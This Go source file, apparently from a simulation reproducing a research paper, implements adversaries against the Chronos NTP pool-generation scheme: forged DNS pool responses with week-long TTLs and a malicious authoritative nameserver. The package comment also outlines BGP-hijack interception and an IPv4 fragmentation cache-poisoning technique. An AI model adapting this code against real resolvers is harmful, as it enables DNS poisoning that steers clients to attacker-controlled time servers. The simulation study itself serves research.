// Package attack implements the adversaries of the paper:
//
//   - ResponseForge: the poisoned pool response — up to 89 A records (the
//     most that fit one non-fragmented EDNS0/1500-MTU response) with a TTL
//     longer than Chronos' 24-hour pool-generation horizon, so every later
//     hourly query is served from cache and adds no benign servers;
//   - BGPHijacker: an on-path interceptor for a victim nameserver prefix
//     (the effect of a BGP prefix hijack) answering DNS queries with the
//     forged response;
//   - FragPoisoner: the off-path IPv4 defragmentation cache-poisoning
//     attack — shrink the nameserver's path MTU (spoofed ICMP PTB), probe
//     the predictable response bytes and IPID counter, plant
//     checksum-compensated spoofed tail fragments that rewrite referral
//     glue, and redirect the resolver to an attacker nameserver;
//   - SMTPTrigger: a third-party system sharing the victim resolver whose
//     lookups the attacker can initiate remotely (the paper: queries
//     triggerable via SMTP servers or open resolvers for 14 % of
//     resolvers).
package attack

import (
	"fmt"
	"time"

	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// DefaultForgedTTL is the TTL the paper's attacker sets: comfortably past
// the 24-hour pool-generation horizon (7 days).
const DefaultForgedTTL = 7 * 24 * time.Hour

// ResponseForge builds poisoned DNS answers for a pool name.
type ResponseForge struct {
	PoolName string
	Servers  []simnet.IP   // malicious NTP servers to advertise
	TTL      time.Duration // per-record TTL; default DefaultForgedTTL
}

// ttlSeconds returns the forged TTL in seconds.
func (f *ResponseForge) ttlSeconds() uint32 {
	ttl := f.TTL
	if ttl == 0 {
		ttl = DefaultForgedTTL
	}
	return uint32(ttl / time.Second)
}

// Records returns the forged A records, at most max (0 = all).
func (f *ResponseForge) Records(max int) []dnswire.RR {
	n := len(f.Servers)
	if max > 0 && n > max {
		n = max
	}
	out := make([]dnswire.RR, 0, n)
	for _, ip := range f.Servers[:n] {
		out = append(out, dnswire.ARecord(f.PoolName, f.ttlSeconds(), [4]byte(ip)))
	}
	return out
}

// Response forges a complete answer to query: as many records as fit the
// client's advertised payload (up to 89 for a 1472-byte EDNS response).
func (f *ResponseForge) Response(query *dnswire.Message) (*dnswire.Message, error) {
	resp := query.Reply()
	resp.Authoritative = true
	resp.RecursionAvailable = true
	maxRecords, err := dnswire.MaxARecords(f.PoolName, query.MaxPayload(), false)
	if err != nil {
		return nil, fmt.Errorf("attack: forge response: %w", err)
	}
	if sz, ok := query.EDNSSize(); ok {
		resp.SetEDNS(sz)
		maxRecords, err = dnswire.MaxARecords(f.PoolName, query.MaxPayload(), true)
		if err != nil {
			return nil, fmt.Errorf("attack: forge response: %w", err)
		}
	}
	resp.Answers = f.Records(maxRecords)
	return resp, nil
}

// NewMaliciousNameserver binds a DNS server to host that answers pool-name
// queries with the forged response. The zone is registered at the pool's
// parent (e.g. "ntp.org"), matching what a resolver redirected by poisoned
// glue will believe it is talking to.
func NewMaliciousNameserver(host *simnet.Host, zone string, forge *ResponseForge) (*dnsserver.Authoritative, error) {
	srv, err := dnsserver.New(host)
	if err != nil {
		return nil, err
	}
	z := dnsserver.NewStaticZone(zone)
	// 89 records: what one non-fragmented EDNS response can carry. The
	// resolver's EDNS size (or 512-byte classic limit) further caps what
	// the wire actually delivers, via the server's truncation logic.
	maxRecords, err := dnswire.MaxARecords(forge.PoolName, dnswire.EthernetMaxPayload, true)
	if err != nil {
		return nil, err
	}
	for _, rr := range forge.Records(maxRecords) {
		z.Add(rr)
	}
	if err := srv.AddZone(zone, z); err != nil {
		return nil, err
	}
	return srv, nil
}
